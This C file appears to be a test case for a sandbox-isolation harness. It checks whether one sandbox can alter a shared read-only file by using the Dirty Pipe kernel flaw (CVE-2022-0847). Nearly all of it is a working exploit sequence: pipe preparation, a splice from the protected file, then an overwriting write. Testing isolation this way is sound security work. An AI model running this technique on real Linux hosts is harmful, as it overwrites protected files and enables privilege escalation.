// Changes the program that all sandboxes share: its own copy may change, the neighbour's not, which
// the runner sees by its beat.
// victim: id=LAT-13 sandbox=fresh
#include "victim.h"

int main(void) {
  // Past the file's permissions by a pipe that still holds its pages: CVE-2022-0847.
  int fd = open("/victims/capable", O_RDONLY | O_CLOEXEC);
  int ends[2];
  if (fd < 0 || pipe(ends) != 0) return not_tried("/victims/capable: %s", strerror(errno));
  char piece[4096] = {0};
  for (int i = 0; i < 16; ++i)
    if (write(ends[1], piece, sizeof piece) < 0 || read(ends[0], piece, sizeof piece) < 0) break;
  loff_t offset = 0;
  if (splice(fd, &offset, ends[1], NULL, 1, 0) == 1 && write(ends[1], "X", 1) == 1) {
    char now[2] = "";
    if (pread(fd, now, 2, 0) == 2 && now[1] == 'X') broke("the shared page was changed");
  }
  int own = open("/victims/shadow-copy", O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
  note("a file of its own beside it: %s", own >= 0 ? "made" : strerror(errno));
  return conclude();
}
